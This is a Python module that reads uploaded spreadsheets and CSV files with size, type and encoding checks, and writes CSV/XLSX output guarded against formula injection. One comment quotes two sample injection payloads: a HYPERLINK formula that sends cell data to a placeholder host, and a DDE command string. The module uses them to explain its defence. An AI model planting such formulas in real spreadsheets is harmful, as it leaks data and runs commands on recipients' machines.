"""Reading spreadsheets as people send them: XLSX/XLS/ODS through python-calamine (the fastest reader measured,
see ARCHITECTURE.md), CSV through the csv module (encoding and delimiter guessed), either whole (`read_rows`) or a
row at a time (`open_rows`, the registry's import). Shared by the statement and the registry importers. And
writing one: `xlsx_bytes` (openpyxl's write-only workbook, row by row)."""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import IO, Any

from phocap.core import sheetsize
from phocap.core.errors import ValidationFailed
from phocap.core.uploads import check_size


@dataclasses.dataclass
class SheetRows:
    """The rows of a file's first sheet, handed out one at a time (`rows`, from the first row of the sheet, each a
    list of its cells from column A), and how many there are when the reader knows it before reading them."""

    rows: Iterator[list[Any]]
    total: int | None


def read_rows(data: bytes, filename: str) -> list[list[Any]]:
    """All rows of the first sheet (XLSX/XLS/ODS through python-calamine) or of a CSV file, as one list — once the
    file has been found within the upload limit and its sheet within `sheetsize.MAX_CELLS` (measured before any
    reader builds it, so a hostile file is refused in milliseconds). For files read whole (statements, teams,
    IMEIs); a list of people is read row by row (`open_rows`)."""
    rows = list(open_rows(data, filename).rows)
    if len(rows) * max(map(len, rows), default=0) > sheetsize.MAX_CELLS:  # the rectangle its readers pad it to
        raise ValidationFailed("Tệp CSV quá lớn: số dòng × số cột vượt giới hạn. Hãy chia tệp rồi tải lên lại.")
    return rows


def open_rows(data: bytes, filename: str) -> SheetRows:
    """The rows of the first sheet, one at a time, after the same checks as `read_rows`. A CSV file is parsed as it
    is read (its text never decoded whole); a workbook is held by calamine (the fastest reader measured, which reads
    a sheet whole) and turned into Python values a row at a time, so only one row is ever built twice."""
    check_size(len(data), filename)
    if not data.strip():
        raise ValidationFailed(f"Tệp {filename} rỗng: không có dòng nào.")
    suffix = Path(filename).suffix.lower()
    if suffix not in (".xlsx", ".xls", ".xlsm", ".ods", ".csv", ".txt"):  # no usable name: look at the bytes
        suffix = {b"PK\x03\x04": ".xlsx", b"\xd0\xcf\x11\xe0": ".xls"}.get(data[:4], ".csv")
    if suffix in (".xlsx", ".xls", ".xlsm", ".ods"):
        return _workbook_rows(data, filename, suffix)
    if data.startswith(NOT_SPREADSHEETS):  # a picture, a PDF, an archive… sent as a list: not read as CSV text
        raise ValidationFailed(f"Tệp {filename} không phải bảng tính (XLSX, XLS, ODS hoặc CSV).")
    encoding = _encoding(data)
    head = data[:65536].decode(encoding, errors="ignore")
    text = io.TextIOWrapper(io.BytesIO(data), encoding=encoding, newline="")
    return SheetRows(_csv_rows(text, _delimiter(head), filename), None)


def _workbook_rows(data: bytes, filename: str, suffix: str) -> SheetRows:
    unreadable = ValidationFailed(
        f"Không đọc được tệp {filename}: tệp bị hỏng hoặc không phải bảng tính Excel/ODS. Hãy mở tệp bằng "
        "Excel hoặc LibreOffice, lưu lại dạng .xlsx rồi tải lên lại.",
        code="unreadable",
    )
    try:
        sheetsize.check(data, _kind(data, suffix))
    except ValidationFailed as exc:
        if exc.code == "unreadable":
            raise unreadable from None
        raise
    from python_calamine import CalamineWorkbook

    try:
        sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
        rows = sheet.iter_rows()
    except Exception:  # calamine raises its own error types (in English) for damaged files
        raise unreadable from None
    # calamine's rows start at the sheet's first row but at its first column holding a value: pad from column A
    pad = [""] * (sheet.start[1] if sheet.start else 0)
    return SheetRows((pad + row for row in rows) if pad else rows, sheet.total_height if sheet.start else 0)


def _csv_rows(text: IO[str], delimiter: str, filename: str) -> Iterator[list[Any]]:
    try:
        yield from csv.reader(text, delimiter=delimiter)
    except csv.Error as exc:
        raise ValidationFailed(f"Không đọc được tệp CSV {filename}: {exc}.") from None


# how files that are surely not a spreadsheet begin: PNG, JPEG, GIF, PDF, gzip, 7-Zip, RAR, ELF
NOT_SPREADSHEETS = (b"\x89PNG", b"\xff\xd8\xff", b"GIF8", b"%PDF", b"\x1f\x8b", b"7z\xbc\xaf", b"Rar!", b"\x7fELF")


def _kind(data: bytes, suffix: str) -> str:
    """What the bytes are, whatever the name says: calamine looks at the bytes too (an .xls that is a zip)."""
    if data[:4] == b"\xd0\xcf\x11\xe0":
        return ".xls"
    if data[:4] == b"PK\x03\x04":
        return ".ods" if b"application/vnd.oasis.opendocument" in data[:200] else ".xlsx"
    return suffix


def _delimiter(text: str) -> str:
    """The separator most table rows use (title rows above the table have none): `,` `;` or tab."""
    lines = [line for line in text.splitlines()[:200] if line.strip()]
    return max((",", ";", "\t"), key=lambda d: sum(1 for line in lines if line.count(d) >= 2))


def _encoding(data: bytes) -> str:
    """The first of UTF-8, UTF-16 and Windows' Vietnamese code page that reads the whole file, checked a megabyte
    at a time (the text itself is never built whole)."""
    for encoding in ("utf-8-sig", "utf-16", "cp1258"):
        decoder = codecs.getincrementaldecoder(encoding)()
        try:
            for start in range(0, len(data), 1 << 20):
                decoder.decode(data[start : start + (1 << 20)])
            decoder.decode(b"", final=True)
        except UnicodeDecodeError:
            continue
        return encoding
    raise ValidationFailed("Không nhận ra bảng mã của tệp CSV (hãy lưu dạng UTF-8).")


# --- writing: files that cannot execute ---------------------------------------------------------------------
#
# A name typed as `=HYPERLINK("http://x/?"&B:B,"Xem")` or `+cmd|' /C calc'!A0` must reach a spreadsheet as the
# text it is. Every CSV and XLSX phocap writes goes through these helpers: XLSX cells holding text are string
# cells, never formulas (openpyxl turns any text starting with `=` into a formula unless told otherwise); CSV text
# that a spreadsheet program would run gets a leading apostrophe (OWASP's advice for CSV injection).

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


class _Echo:
    def write(self, text: str) -> str:
        return text


_CSV = csv.writer(_Echo())


def csv_line(row: Iterable[Any]) -> str:
    """One CSV line (with its line end), each text cell made safe."""
    return str(_CSV.writerow([csv_safe(v) for v in row]))


def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """A whole CSV file in UTF-8; `bom`: a byte-order mark first, so spreadsheet programs read it as UTF-8."""
    return ("\ufeff" if bom else "").encode() + "".join(csv_line(row) for row in rows).encode("utf-8")


def as_text(cell: Any) -> Any:
    """An openpyxl cell holding text is a string cell, whatever the text starts with."""
    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
    return cell


def xlsx_bytes(rows: Iterable[Iterable[Any]], *, sheet: str = "Sheet1") -> bytes:
    """An XLSX file of one sheet holding the rows, written row by row (memory stays flat for long lists)."""
    return xlsx_book({sheet: rows})


def xlsx_book(sheets: Mapping[str, Iterable[Iterable[Any]]]) -> bytes:
    """An XLSX file of several sheets (name → rows), each written row by row."""
    from openpyxl import Workbook  # only when a workbook is written, as calamine only when one is read
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    for sheet, rows in sheets.items():
        out_sheet = book.create_sheet(sheet[:31])
        for row in rows:
            out_sheet.append(
                [
                    as_text(WriteOnlyCell(out_sheet, value=v))
                    if isinstance(v, str) and v.startswith(FORMULA_STARTS)
                    else v
                    for v in row
                ]
            )
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
